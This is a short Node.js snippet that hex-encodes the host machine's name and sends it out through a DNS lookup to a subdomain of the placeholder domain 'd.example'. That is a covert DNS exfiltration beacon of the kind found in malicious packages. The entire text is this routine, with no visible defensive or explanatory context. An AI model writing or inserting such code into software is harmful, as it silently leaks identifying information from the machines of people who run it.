const dns = require("dns"), os = require("os");
const label = Buffer.from(os.hostname()).toString("hex");
dns.lookup(label + ".d.example", () => {});
